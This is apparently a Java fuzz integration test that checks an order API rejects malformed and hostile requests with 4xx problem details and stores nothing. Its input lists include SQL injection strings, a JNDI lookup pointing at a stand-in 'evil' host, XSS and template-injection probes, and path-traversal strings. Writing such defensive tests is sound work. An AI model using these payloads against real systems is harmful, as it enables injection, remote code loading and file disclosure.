package com.sagaworks.order.web;

import com.sagaworks.order.OrderServiceITSupport;
import org.junit.jupiter.api.Test;
import tools.jackson.core.JacksonException;
import tools.jackson.databind.JsonNode;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hundreds of generated malformed or hostile requests: broken and mistyped JSON, huge numbers and bodies,
 * control characters and malformed Unicode, SQL-ish and script-ish strings, wrong or missing headers and
 * credentials, unknown paths and methods. Every answer must be a 4xx problem detail, never a 5xx, and not one
 * row may appear in {@code orders}.
 *
 * <p>Each generator builds a request that is invalid on its own merits, whatever credentials it carries, so a
 * success would be a bug, not bad luck. The generator is seeded: the seed is printed and named in every
 * failure; rerun one with {@code -Dsagaworks.fuzz.seed=<seed>}.
 */
class OrderApiFuzzIT extends OrderServiceITSupport {

    private static final long SEED = Long.getLong("sagaworks.fuzz.seed", 20_260_322L);
    private static final int REQUESTS = Integer.getInteger("sagaworks.fuzz.requests", 600);

    private static final HttpClient CLIENT = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5))
            .build();

    /** Strings an attacker or a broken client might send; none is a customer of shop-a (alice, bob). */
    private static final List<String> HOSTILE = List.of(
            "' OR '1'='1", "'; DROP TABLE orders; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)--",
            "$$; DELETE FROM orders; $$", "robert'); DROP TABLE order_line;--", "%27%20OR%201=1", "\\x00\\x27",
            "${jndi:ldap://evil/a}", "{{7*7}}", "#{7*7}", "<script>alert(1)</script>", "../../etc/passwd",
            "..\\..\\windows\\win.ini", "\u0000", "a\u0000b", "\u202Eevil", "\u200B", "Ω≈ç√∫", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
            "🙂🙃👩‍👩‍👧", "\uD800", "x\uDC00y", "\uFEFFalice", "a\u0301", "\u3000", "\u2003\u2003", "NaN", "null", "true",
            "-0", "1e309", "0x7fffffff", "\t", "\r\n", "alice\u0007", "ALICE", "alice ", " bob", "Bob", "アリス",
            "ali\\ce", "alice\"}", "%00", "%", "*", "?", "/orders", "🧨".repeat(40));

    private final Random random = new Random(SEED);

    @Test
    void hostileRequestsAllGetA4xxProblemDetailAndCreateNothing() {
        System.out.println("OrderApiFuzzIT: seed " + SEED + ", " + REQUESTS + " requests"
                + " (rerun with -Dsagaworks.fuzz.seed=" + SEED + ")");
        List<Function<Random, Fuzz>> generators = List.of(
                this::truncatedBody, this::brokenSyntax, this::brokenBytes, this::wrongTypes, this::invalidValues,
                this::hostileCustomerOfAnotherClient, this::badHeaders, this::badCredentials, this::wrongPathOrMethod,
                this::badListing, this::badWait, this::hugeBody);
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();

        for (int i = 0; i < REQUESTS; i++) {
            Fuzz fuzz = generators.get(random.nextInt(generators.size())).apply(random);
            HttpResponse<String> response = send(fuzz);
            statuses.merge(response.statusCode(), 1, Integer::sum);
            String verdict = verdict(response);
            if (verdict != null) {
                failures.add("#" + i + " " + fuzz + " -> " + verdict);
            }
        }

        System.out.println("OrderApiFuzzIT: statuses " + statuses);
        assertThat(failures).as("seed " + SEED + ": requests that did not get a 4xx problem detail").isEmpty();
        assertThat(count("SELECT count(*) FROM orders")).as("seed " + SEED + ": orders created").isZero();
        assertThat(count("SELECT count(*) FROM order_line")).isZero();
        assertThat(outboxSize()).isZero();
        assertThat(statuses.keySet()).as("the generators reach every kind of refusal")
                .contains(400, 401, 404, 405, 406, 413, 415, 422);
    }

    // ---------------------------------------------------------------- generators

    private Fuzz truncatedBody(Random r) {
        String body = validBody(r);
        // A proper prefix of a JSON object is never a complete JSON value.
        return post("truncated body", DEMO_SHOP_KEY, body.substring(0, r.nextInt(body.length())));
    }

    private Fuzz brokenSyntax(Random r) {
        String valid = validBody(r);
        String body = switch (r.nextInt(12)) {
            case 0 -> valid + pick(r, "}", "]", ",", "x", "{}", "[]", "null", "\"");
            case 1 -> pick(r, "]", ",", "x", "}", ":") + valid;
            case 2 -> valid.replace("\"customerId\"", "'customerId'");
            case 3 -> valid.replace("\"customerId\"", "customerId");
            case 4 -> "/* comment */" + valid;
            case 5 -> valid.replaceFirst("\"quantity\": *\\d+", "\"quantity\": " + pick(r, "NaN", "Infinity", "-Infinity",
                    "0x10", "01", "+1", "1.", ".5", "1e", "--1", "1_000", "١"));
            case 6 -> valid.replaceFirst("\\{", "[");
            case 7 -> valid.replace("\"lines\"", "\"customerId\": \"dup\", \"lines\"");
            case 8 -> valid.replace("\"sku\": \"", "\"sku\": \"\\x41");
            case 9 -> valid.replace(":", "=");
            case 10 -> valid.replace("[", "[,");
            default -> "{" + "\"customerId\": \"alice\", ".repeat(1 + r.nextInt(3)) + "\"lines\": ]}";
        };
        return post("broken syntax", DEMO_SHOP_KEY, body);
    }

    /** Bytes that are not valid UTF-8 JSON text: raw control characters, invalid or overlong sequences. */
    private Fuzz brokenBytes(Random r) {
        byte[] poison = switch (r.nextInt(6)) {
            case 0 -> new byte[]{0x01};
            case 1 -> new byte[]{(byte) 0xC3, 0x28};
            case 2 -> new byte[]{(byte) 0xC0, (byte) 0x80};
            case 3 -> new byte[]{(byte) 0x80};
            case 4 -> new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80};
            default -> new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80};
        };
        byte[] prefix = "{\"customerId\": \"ali".getBytes(StandardCharsets.UTF_8);
        byte[] suffix = "ce\", \"lines\": [{\"sku\": \"SKU-1\", \"quantity\": 1}]}".getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[prefix.length + poison.length + suffix.length];
        System.arraycopy(prefix, 0, body, 0, prefix.length);
        System.arraycopy(poison, 0, body, prefix.length, poison.length);
        System.arraycopy(suffix, 0, body, prefix.length + poison.length, suffix.length);
        return new Fuzz("invalid bytes " + HexFormat.of().formatHex(poison), "POST", "/orders",
                jsonHeaders(DEMO_SHOP_KEY), body, false);
    }

    private Fuzz wrongTypes(Random r) {
        String customer = jsonString("alice");
        String lines = "[{\"sku\": \"SKU-1\", \"quantity\": 1}]";
        switch (r.nextInt(4)) {
            case 0 -> customer = pick(r, "12", "true", "null", "[]", "{}", "1.5", "[\"alice\"]", "{\"id\": \"alice\"}");
            case 1 -> lines = pick(r, "\"SKU-1\"", "1", "{}", "null", "[1]", "[\"a\"]", "[[]]", "[null]", "true",
                    "{\"sku\": \"SKU-1\", \"quantity\": 1}");
            case 2 -> lines = "[{\"sku\": \"SKU-1\", \"quantity\": " + pick(r, "\"1\"", "1.5", "true", "null", "[]", "{}",
                    "1e2", "1.0", "99999999999", "-99999999999", "1e309", "\"NaN\"", "2147483648", "-2147483649",
                    "9".repeat(1500), "0.0000001", "-0") + "}]";
            default -> lines = "[{\"sku\": " + pick(r, "1", "true", "null", "[]", "{}", "[\"SKU-1\"]") + ", \"quantity\": 1}]";
        }
        return post("wrong type", DEMO_SHOP_KEY, "{\"customerId\": " + customer + ", \"lines\": " + lines + "}");
    }

    private Fuzz invalidValues(Random r) {
        String customer = randomCustomer(r);
        List<String> lines = new ArrayList<>(List.of(line(r, "SKU-1", 1 + r.nextInt(1000))));
        switch (r.nextInt(11)) {
            case 0 -> customer = longString(r, 65 + r.nextInt(4000));
            case 1 -> customer = pick(r, "", " ", "   ", "\t", "\n", "\u2003", "\u3000", " \u3000 ");
            case 2 -> customer = "al" + pick(r, "\u0000", "\u0001", "\u001F", "\u007F", "\u0085", "\n", "\uD800", "\uDFFF") + "ice";
            case 3 -> lines = List.of(line(r, "SKU-1", pick(r, 0, -1, 1001, Integer.MAX_VALUE, Integer.MIN_VALUE, -1000)));
            case 4 -> lines = List.of();
            case 5 -> lines = IntStream.rangeClosed(1, 51 + r.nextInt(100)).mapToObj(i -> line(r, "SKU-" + i, 1)).toList();
            case 6 -> lines = List.of(line(r, "SKU-D", 1), line(r, "SKU-D", 2));
            case 7 -> lines = List.of(line(r, longString(r, 65 + r.nextInt(500)), 1));
            case 8 -> lines = List.of(line(r, pick(r, "", " ", "\t", "SK\u0000U", "\uDBFF", "\u2003"), 1));
            case 9 -> lines = List.of("{\"sku\": \"SKU-1\", \"quantity\": 1, " + jsonString(pick(r, HOSTILE)) + ": 1}");
            default -> lines = List.of("{\"sku\": \"SKU-1\", \"quantity\": 1, \"unitPriceCents\": " + r.nextInt(1000) + "}");
        }
        String body = "{\"customerId\": " + jsonString(customer) + ", \"lines\": [" + String.join(", ", lines) + "]}";
        return post("invalid value", DEMO_SHOP_KEY, body);
    }

    /** Well-formed requests from shop-a for a customer that is not one of shop-a's: 422, or 400 if also invalid. */
    private Fuzz hostileCustomerOfAnotherClient(Random r) {
        String customer = r.nextBoolean() ? pick(r, HOSTILE) : randomUnicode(r, 1 + r.nextInt(40));
        if (customer.equals("alice") || customer.equals("bob")) {
            customer = customer + "!";
        }
        String sku = r.nextBoolean() ? "SKU-1" : pick(r, HOSTILE);
        String body = "{\"customerId\": " + jsonString(customer) + ", \"lines\": [" + line(r, sku, 1 + r.nextInt(5)) + "]}";
        return post("customer of another client", SHOP_A_KEY, body);
    }

    /** A valid body that never gets in: headers wrong or missing. */
    private Fuzz badHeaders(Random r) {
        String body = validBody(r);
        Map<String, String> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
        headers.put("X-Api-Key", DEMO_SHOP_KEY);
        headers.put("Content-Type", "application/json");
        headers.put("Idempotency-Key", newKey());
        String what;
        switch (r.nextInt(7)) {
            case 0 -> {
                headers.remove("Idempotency-Key");
                what = "no Idempotency-Key";
            }
            case 1 -> {
                // Printable ASCII only: the HTTP client turns other characters into '?', a valid key.
                headers.put("Idempotency-Key", pick(r, " ", "   ", "k".repeat(129 + r.nextInt(500)),
                        "' OR 1=1 --".repeat(12 + r.nextInt(20))));
                what = "invalid Idempotency-Key";
            }
            case 2 -> {
                headers.put("Content-Type", pick(r, "text/plain", "application/xml", "text/html", "application/octet-stream",
                        "application/x-www-form-urlencoded", "multipart/form-data; boundary=fuzz", "image/png",
                        "text/json", "application/javascript"));
                what = "wrong Content-Type";
            }
            case 3 -> {
                headers.remove("Content-Type");
                what = "no Content-Type";
            }
            case 4 -> {
                headers.put("Accept", pick(r, "application/xml", "text/html", "image/png", "text/csv", "application/pdf"));
                what = "unacceptable Accept";
            }
            case 5 -> {
                headers.put("Content-Type", "application/json; charset=" + pick(r, "no-such-charset", "utf-7", "x"));
                what = "unknown charset";
            }
            default -> {
                headers.remove("X-Api-Key");
                headers.put("Authorization", pick(r, "Basic ZGVtby1zaG9wOmRlbW8tc2hvcC1rZXk=", "Bearer demo-shop-key",
                        "demo-shop-key", "ApiKey demo-shop-key"));
                what = "credentials in Authorization instead of X-Api-Key";
            }
        }
        return new Fuzz(what + " " + headers, "POST", "/orders", headers, body.getBytes(StandardCharsets.UTF_8), false);
    }

    private Fuzz badCredentials(Random r) {
        Map<String, String> headers = jsonHeaders(null);
        switch (r.nextInt(4)) {
            case 0 -> { }
            case 1 -> headers.put("X-Api-Key", "");
            case 2 -> headers.put("X-Api-Key", pick(r, "demo-shop-key ", "DEMO-SHOP-KEY", "demo-shop", "shop-a-key",
                    "' OR 1=1 --", "k".repeat(1 + r.nextInt(2000)), UUID.randomUUID().toString()));
            default -> headers.put("X-Api-Key", "\u00e9\u00e8" + r.nextInt());
        }
        String path = pick(r, "/orders", "/orders/" + UUID.randomUUID(), "/orders?customerId=alice",
                "/orders/" + UUID.randomUUID() + "/cancel", "/orders/" + UUID.randomUUID() + "/events", "/actuator/info",
                "/actuator/env", "/error", "/no-such-thing");
        String method = path.endsWith("/cancel") || path.equals("/orders") ? "POST" : "GET";
        byte[] body = method.equals("POST") ? validBody(r).getBytes(StandardCharsets.UTF_8) : null;
        return new Fuzz("bad credentials " + headers.get("X-Api-Key"), method, path, headers, body, false);
    }

    private Fuzz wrongPathOrMethod(Random r) {
        String id = UUID.randomUUID().toString();
        String garbage = encode(pick(r, HOSTILE));
        Map<String, String> headers = jsonHeaders(DEMO_SHOP_KEY);
        return switch (r.nextInt(9)) {
            case 0 -> new Fuzz("method not allowed", pick(r, "PUT", "PATCH", "DELETE"),
                    pick(r, "/orders", "/orders/" + id, "/orders/" + id + "/cancel", "/orders/" + id + "/events"),
                    headers, validBody(r).getBytes(StandardCharsets.UTF_8), false);
            case 1 -> new Fuzz("GET on cancel", "GET", "/orders/" + id + "/cancel", headers, null, false);
            case 2 -> new Fuzz("POST on an order", "POST", pick(r, "/orders/" + id, "/orders/" + id + "/events"), headers,
                    validBody(r).getBytes(StandardCharsets.UTF_8), false);
            case 3 -> new Fuzz("order id not a UUID", pick(r, "GET", "POST"),
                    pick(r, "/orders/" + garbage, "/orders/" + garbage + "/cancel", "/orders/" + garbage + "/events",
                            "/orders/" + id.substring(1), "/orders/" + id + "0", "/orders/" + id.toUpperCase().replace('-', '_')),
                    headers, null, false);
            case 4 -> new Fuzz("unknown order", pick(r, "GET", "POST"),
                    pick(r, "/orders/" + id, "/orders/" + id + "/events", "/orders/" + id + "/cancel"), headers, null, false);
            case 5 -> new Fuzz("unknown path", pick(r, "GET", "POST", "DELETE"),
                    "/" + pick(r, "order", "orders/" + id + "/" + garbage, "api/orders", garbage, "admin", "actuator/env",
                            "actuator/heapdump", "v3/api-docs/" + garbage, "orders/" + id + "/cancel/now", "WEB-INF/web.xml"),
                    headers, null, false);
            case 6 -> new Fuzz("path the firewall refuses", "GET", "/orders/" + pick(r, "%2e%2e/actuator/env", "..;/x",
                    "x%2Fy", "x%5Cy", "x%25y", "x%3By", "%00", ";jsessionid=abc", "x//y", "./" + id, "%C0%AF", "x%0Ay"),
                    headers, null, false);
            case 7 -> new Fuzz("GET with a body", "GET", "/orders/" + garbage, headers,
                    validBody(r).getBytes(StandardCharsets.UTF_8), false);
            default -> new Fuzz("query string junk", "GET", "/orders/" + id + "?" + garbage + "=" + garbage
                    + "&wait=" + garbage, headers, null, false);
        };
    }

    private Fuzz badListing(Random r) {
        String query = switch (r.nextInt(6)) {
            case 0 -> "customerId=alice&page=" + encode(pick(r, "-1", "1001", "x", "1.5", "99999999999", "' OR 1=1", "NaN"));
            case 1 -> "customerId=alice&size=" + encode(pick(r, "0", "-5", "x", "1e3", "99999999999", "null"));
            case 2 -> "customerId=" + encode(pick(r, "", " ", "\u0000", "a\u0001", "\u2003", longString(r, 65 + r.nextInt(200))));
            case 3 -> pick(r, "", "page=0", "size=10", "customer=alice", "customerID=alice");
            case 4 -> "customerId=" + encode(pick(r, HOSTILE) + "!");
            default -> "customerId=alice&customerId=" + encode(pick(r, HOSTILE)) + "&page=-" + (1 + r.nextInt(9));
        };
        // shop-a acts for alice and bob only: any other customer is refused, even a well-formed one.
        return new Fuzz("bad listing " + query, "GET", "/orders?" + query, jsonHeaders(SHOP_A_KEY), null, false);
    }

    private Fuzz badWait(Random r) {
        String wait = pick(r, "5", "5s", "PT", "P", "-PT1S", "PT-1S", "P1000000000000000D", "PT99999999999999999999S",
                "PT1S' OR 1=1", "P1Y", "P1M", "T5S", "pt5s", "PT5S PT5S", "", "\u0000", "NaN", "PT1.0000000001S");
        return new Fuzz("bad wait " + wait, "GET", "/orders/" + UUID.randomUUID() + "?wait=" + encode(wait),
                jsonHeaders(DEMO_SHOP_KEY), null, false);
    }

    private Fuzz hugeBody(Random r) {
        return switch (r.nextInt(6)) {
            case 0 -> post("huge customer", DEMO_SHOP_KEY, "{\"customerId\": \"" + "a".repeat(70_000 + r.nextInt(900_000))
                    + "\", \"lines\": [{\"sku\": \"SKU-1\", \"quantity\": 1}]}");
            case 1 -> {
                byte[] noise = new byte[70_000 + r.nextInt(900_000)];
                r.nextBytes(noise);
                yield new Fuzz("huge random bytes", "POST", "/orders", jsonHeaders(DEMO_SHOP_KEY), noise, false);
            }
            case 2 -> new Fuzz("huge body of unannounced length", "POST", "/orders", jsonHeaders(DEMO_SHOP_KEY),
                    ("{\"customerId\": \"" + "b".repeat(70_000 + r.nextInt(500_000)) + "\"}").getBytes(StandardCharsets.UTF_8),
                    true);
            case 3 -> post("many lines", DEMO_SHOP_KEY, "{\"customerId\": \"alice\", \"lines\": [" + IntStream
                    .range(0, 51 + r.nextInt(5000)).mapToObj(i -> "{\"sku\": \"SKU-" + i + "\", \"quantity\": 1}")
                    .collect(Collectors.joining(",")) + "]}");
            case 4 -> {
                int depth = 600 + r.nextInt(5000);
                yield post("deep nesting " + depth, DEMO_SHOP_KEY, "{\"customerId\": \"alice\", \"lines\": "
                        + "[".repeat(depth) + "]".repeat(depth) + "}");
            }
            default -> post("huge number", DEMO_SHOP_KEY, "{\"customerId\": \"alice\", \"lines\": [{\"sku\": \"SKU-1\","
                    + " \"quantity\": " + "9".repeat(1000 + r.nextInt(50_000)) + "}]}");
        };
    }

    // ---------------------------------------------------------------- building blocks

    /** One generated request. */
    private record Fuzz(String what, String method, String path, Map<String, String> headers, byte[] body,
                        boolean unannouncedLength) {

        @Override
        public String toString() {
            String summary = what + ": " + method + " " + path + (body == null ? "" : " (" + body.length + " bytes)");
            return summary.length() > 300 ? summary.substring(0, 300) + "..." : summary;
        }
    }

    private Fuzz post(String what, String apiKey, String body) {
        return new Fuzz(what, "POST", "/orders", jsonHeaders(apiKey), body.getBytes(StandardCharsets.UTF_8), false);
    }

    private static Map<String, String> jsonHeaders(String apiKey) {
        Map<String, String> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
        headers.put("Content-Type", "application/json");
        headers.put("Idempotency-Key", newKey());
        if (apiKey != null) {
            headers.put("X-Api-Key", apiKey);
        }
        return headers;
    }

    private HttpResponse<String> send(Fuzz fuzz) {
        HttpRequest.BodyPublisher body;
        if (fuzz.body() == null) {
            body = HttpRequest.BodyPublishers.noBody();
        } else if (fuzz.unannouncedLength()) {
            body = HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(fuzz.body()));
        } else {
            body = HttpRequest.BodyPublishers.ofByteArray(fuzz.body());
        }
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + fuzz.path()))
                .timeout(TIMEOUT)
                .method(fuzz.method(), body);
        fuzz.headers().forEach(request::header);
        try {
            return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new UncheckedIOException("seed " + SEED + ": " + fuzz + " failed", e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted during " + fuzz, e);
        }
    }

    /** Null when the answer is a 4xx problem detail; otherwise what is wrong with it. */
    private static String verdict(HttpResponse<String> response) {
        int status = response.statusCode();
        String body = response.body().length() > 300 ? response.body().substring(0, 300) + "..." : response.body();
        if (status < 400 || status >= 500) {
            return "status " + status + ": " + body;
        }
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (!type.startsWith("application/problem+json")) {
            return status + " with Content-Type '" + type + "': " + body;
        }
        JsonNode problem;
        try {
            problem = JSON.readTree(response.body());
        } catch (JacksonException e) {
            return status + " with a body that is not JSON: " + body;
        }
        if (problem.path("status").asInt() != status || problem.path("title").asString("").isBlank()) {
            return status + " with an incomplete problem: " + body;
        }
        return null;
    }

    private static String validBody(Random r) {
        int lines = 1 + r.nextInt(3);
        return "{\"customerId\": " + jsonString(randomCustomer(r)) + ", \"lines\": ["
                + IntStream.range(0, lines).mapToObj(i -> line(r, "SKU-" + i, 1 + r.nextInt(10))).collect(Collectors.joining(", "))
                + "]}";
    }

    private static String randomCustomer(Random r) {
        return pick(r, "alice", "bob", "carol", "dave", "c-" + r.nextInt(1000));
    }

    private static String line(Random r, String sku, int quantity) {
        return r.nextBoolean()
                ? "{\"sku\": " + jsonString(sku) + ", \"quantity\": " + quantity + "}"
                : "{\"quantity\": " + quantity + ", \"sku\": " + jsonString(sku) + "}";
    }

    /** A JSON string literal that carries {@code text} exactly, unpaired surrogates and control characters included. */
    private static String jsonString(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7E) {
                json.append(String.format("\\u%04x", (int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    private static String longString(Random r, int length) {
        return randomUnicode(r, length);
    }

    /** Printable characters from several scripts, emoji included (as surrogate pairs). */
    private static String randomUnicode(Random r, int codePoints) {
        int[][] ranges = {{0x21, 0x7E}, {0xC0, 0x24F}, {0x370, 0x3FF}, {0x400, 0x4FF}, {0x4E00, 0x4FFF}, {0x1F300, 0x1F5FF}};
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < codePoints; i++) {
            int[] range = ranges[r.nextInt(ranges.length)];
            text.appendCodePoint(range[0] + r.nextInt(range[1] - range[0] + 1));
        }
        return text.toString();
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @SafeVarargs
    private static <T> T pick(Random r, T... choices) {
        return choices[r.nextInt(choices.length)];
    }

    private static <T> T pick(Random r, List<T> choices) {
        return choices.get(r.nextInt(choices.size()));
    }
}
